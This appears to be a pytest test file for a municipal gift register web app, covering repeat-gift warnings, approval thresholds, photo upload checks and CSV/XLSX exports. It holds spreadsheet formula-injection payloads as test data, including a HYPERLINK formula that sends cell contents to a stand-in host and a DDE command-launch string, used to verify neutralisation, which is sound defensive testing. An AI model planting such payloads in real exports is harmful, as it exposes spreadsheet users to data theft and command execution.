"""The gift register: the warning before a counterpart gets the same gift again, approval by value, the photo's
type and size, and the year's export as CSV and XLSX with every formula-like cell neutralised."""
from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook
from PIL import Image
from sqlalchemy import select

from delegations.extensions import db
from delegations.models import Gift
from delegations.models.protocol import GiftApproval, GiftDirection, GiftFate
from tests.accounts import sign_in

DANGEROUS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+49 511 168-0", "-1+1", "@SUM(A1:A9)",
             "\tTabulator", "\rWagenrücklauf")


def gift(**values) -> Gift:
    found = Gift(**{"direction": GiftDirection.GIVEN, "article": "Bildband Hannover", "given_on": date(2027, 5, 3),
                    "value_cents": 3000, "approval": GiftApproval.NOT_REQUIRED, "fate": GiftFate.UNDECIDED,
                    **values})
    db.session.add(found)
    db.session.flush()
    return found


def form(**values) -> dict:
    return {"direction": "given", "article": "Porzellanteller Fürstenberg mit Stadtwappen", "given_on": "2027-05-03",
            "value": "120", "fate": "undecided", "recipient": "Ken'ichi Matsumoto",
            "counterpart_organisation": "Stadt Hiroshima", **values}


def test_the_register_warns_before_a_counterpart_receives_the_same_gift_again(client):
    gift(article="Porzellanteller Fürstenberg mit Stadtwappen", recipient="Kazumi Matsui",
         counterpart_organisation="Stadt Hiroshima", given_on=date(2025, 8, 6))
    db.session.commit()
    sign_in(client)
    response = client.post("/protocol/gifts/new", data=form())
    page = response.get_data(as_text=True)
    assert response.status_code == 200
    assert "This counterpart received the same gift before" in page and "Save anyway" in page
    assert db.session.scalar(select(db.func.count(Gift.id))) == 1
    response = client.post("/protocol/gifts/new", data=form(confirm_repeat="1"))
    assert response.status_code == 302
    assert db.session.scalar(select(db.func.count(Gift.id))) == 2
    register = client.get("/protocol/gifts?year=2027").get_data(as_text=True)
    assert "given before" in register
    # Another gift to the same partner city is no repeat.
    response = client.post("/protocol/gifts/new", data=form(article="Bildband Herrenhäuser Gärten"))
    assert response.status_code == 302


def test_gifts_above_the_threshold_wait_for_approval_and_the_threshold_is_a_setting(client, app):
    db.session.commit()
    sign_in(client)
    client.post("/protocol/gifts/new", data=form(article="Kugelschreiber", value="12"))
    client.post("/protocol/gifts/new", data=form(article="Bildband", value="45"))
    client.post("/protocol/gifts/new", data=form(article="Lackkästchen", value="", direction="received"))
    approvals = dict(db.session.execute(select(Gift.article, Gift.approval)).all())
    assert approvals == {"Kugelschreiber": GiftApproval.NOT_REQUIRED, "Bildband": GiftApproval.PENDING,
                         "Lackkästchen": GiftApproval.PENDING}
    book = db.session.scalar(select(Gift).where(Gift.article == "Bildband"))
    response = client.post(f"/protocol/gifts/{book.id}/decision", data={"decision": "approve", "note": "ok"})
    assert response.status_code == 302
    db.session.refresh(book)
    assert book.approval == GiftApproval.APPROVED and book.decided_by_name == "Test planner"
    app.config["GIFT_APPROVAL_THRESHOLD_EUR"] = 50
    client.post("/protocol/gifts/new", data=form(article="Tasse", value="45"))
    assert db.session.scalar(select(Gift.approval).where(Gift.article == "Tasse")) == GiftApproval.NOT_REQUIRED


def _png(size=(40, 30)) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", size, (196, 0, 26)).save(buffer, format="PNG")
    return buffer.getvalue()


def test_a_photo_is_checked_for_type_and_size_stored_and_shown(client, app, tmp_path):
    app.config["GIFT_PHOTO_DIR"] = str(tmp_path)
    app.config["GIFT_PHOTO_MAX_BYTES"] = 50_000
    db.session.commit()
    sign_in(client)
    response = client.post("/protocol/gifts/new", content_type="multipart/form-data",
                           data=form(photo=(io.BytesIO(b"<script>alert(1)</script>"), "teller.png")))
    assert response.status_code == 200 and "Please choose a photo in JPEG, PNG or WebP format." in \
        response.get_data(as_text=True)
    response = client.post("/protocol/gifts/new", content_type="multipart/form-data",
                           data=form(photo=(io.BytesIO(b"\x89PNG\r\n\x1a\n" + b"0" * 60_000), "big.png")))
    assert "larger than" in response.get_data(as_text=True)
    assert db.session.scalar(select(db.func.count(Gift.id))) == 0
    response = client.post("/protocol/gifts/new", content_type="multipart/form-data",
                           data=form(photo=(io.BytesIO(_png()), "teller.png")))
    assert response.status_code == 302
    stored = db.session.scalar(select(Gift))
    assert stored.photo_type == "image/png" and (tmp_path / stored.photo_file).is_file()
    shown = client.get(f"/protocol/gifts/{stored.id}/photo")
    assert shown.status_code == 200 and shown.mimetype == "image/png"
    assert shown.headers["X-Content-Type-Options"] == "nosniff"
    assert Image.open(io.BytesIO(shown.data)).size == (40, 30)
    response = client.post(f"/protocol/gifts/{stored.id}/delete", data={"version": stored.version})
    assert response.status_code == 302 and not any(tmp_path.iterdir())


@pytest.fixture
def dangerous_gifts():
    for number, text in enumerate(DANGEROUS):
        gift(article=text, description=text, recipient=f"Person {number}", giver="=cmd|' /C calc'!A0",
             value_cents=20000 if number == 0 else 1000)
    gift(article="Früheres Jahr", given_on=date(2026, 12, 31))
    db.session.commit()


def test_the_csv_export_neutralises_every_cell_that_could_start_a_formula(client, dangerous_gifts):
    sign_in(client)
    response = client.get("/protocol/gifts/2027.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    text = response.data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    header, body = rows[0], rows[1:]
    assert len(body) == len(DANGEROUS)
    articles = [row[header.index("What")] for row in body]
    assert sorted(articles) == sorted("'" + text for text in DANGEROUS)
    for row in body:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    reportable = {row[header.index("What")]: row[header.index("To be reported (over 150 EUR)")] for row in body}
    assert reportable["'" + DANGEROUS[0]] == "yes" and reportable["'" + DANGEROUS[1]] == "no"


def test_the_xlsx_export_holds_values_only_and_neutralised_text(client, dangerous_gifts):
    sign_in(client)
    response = client.get("/protocol/gifts/2027.xlsx")
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere
    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in texts)
    assert "'" + DANGEROUS[0] in texts
    values = [cell.value for cell in sheet["J"][1:]]
    assert 200 in values and all(isinstance(value, (int, float)) for value in values)
